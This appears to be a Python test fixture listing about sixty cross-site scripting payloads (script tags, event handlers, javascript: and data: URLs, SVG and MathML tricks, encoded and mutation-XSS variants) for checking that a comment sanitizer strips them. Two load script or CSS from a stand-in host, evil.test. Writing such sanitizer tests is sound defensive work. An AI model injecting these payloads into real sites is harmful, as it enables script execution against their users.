"""Cross-site scripting payloads written for this project, one or more per known class of vector.

Each is posted as comment text; none may come out as markup, an event handler or a non-http(s) link.
"""

from __future__ import annotations

PAYLOADS: list[str] = [
    # script and style tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<script>alert`1`</script>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "<style>body{background:url(javascript:alert(3))}</style>",
    "<style>@import 'http://evil.test/x.css';</style>",
    "</textarea><script>alert(4)</script>",
    "</title><script>alert(5)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(6)>\">",
    # event-handler attributes
    "<img src=x onerror=alert(7)>",
    "<body onload=alert(8)>",
    "<div onmouseover=\"alert(9)\">hover</div>",
    "<input autofocus onfocus=alert(10)>",
    "<details open ontoggle=alert(11)>",
    "<video><source onerror=\"alert(12)\"></video>",
    "<a href=\"https://ok.test\" onclick=\"alert(13)\">ok</a>",
    "\" onmouseover=\"alert(14)",
    "' autofocus onfocus='alert(15)",
    "https://ok.test/\"onmouseover=\"alert(16)",
    "https://ok.test/'onmouseover='alert(17)'",
    # javascript: and data: URLs in text that gets auto-linked
    "javascript:alert(18)",
    "JaVaScRiPt:alert(19)",
    "java\tscript:alert(20)",
    "javascript://%0aalert(21)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgyMik8L3NjcmlwdD4=",
    "data:text/html,<script>alert(23)</script>",
    "<a href=\"javascript:alert(24)\">click</a>",
    "<a href=\"data:text/html,<script>alert(25)</script>\">x</a>",
    "vbscript:msgbox(26)",
    "www.ok.test/javascript:alert(27)",
    "https://ok.test/?q=<script>alert(28)</script>",
    "http://ok.test/#\"><img src=x onerror=alert(29)>",
    "https://javascript:alert(30)@ok.test",
    # SVG and MathML
    "<svg onload=alert(31)>",
    "<svg><script>alert(32)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(33)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(34) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(35)>",
    "<math href=\"javascript:alert(36)\">CLICK</math>",
    "<svg><foreignObject><iframe src=javascript:alert(37)></iframe></foreignObject></svg>",
    # HTML entities and mixed encodings
    "&lt;script&gt;alert(38)&lt;/script&gt;",
    "&#60;script&#62;alert(39)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(40)&#x3E;",
    "<a href=\"&#106;avascript:alert(41)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(42)\">x</a>",
    "%3Cscript%3Ealert(43)%3C/script%3E",
    "\\u003cscript\\u003ealert(44)\\u003c/script\\u003e",
    "＜script＞alert(45)＜/script＞",
    "\u2028<script>alert(46)</script>\u2029",
    # broken tags
    "<img src=x onerror=alert(47)",
    "<<script>alert(48);//<</script>",
    "<a href=\"https://ok.test\"<script>alert(49)</script>",
    "<iframe src=javascript:alert(50) <",
    "<!--<img src=x onerror=alert(51)>-->",
    "<![CDATA[<script>alert(52)</script>]]>",
    # mutation XSS
    "<noscript><img title=\"</noscript><img src=x onerror=alert(53)>\"></noscript>",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(54)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(55)>",
    "<listing>&lt;img src=x onerror=alert(56)&gt;</listing>",
    "<template><script>alert(57)</script></template>",
    "<object data=\"javascript:alert(58)\">",
    "<base href=\"javascript:alert(59)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(60)\">",
]
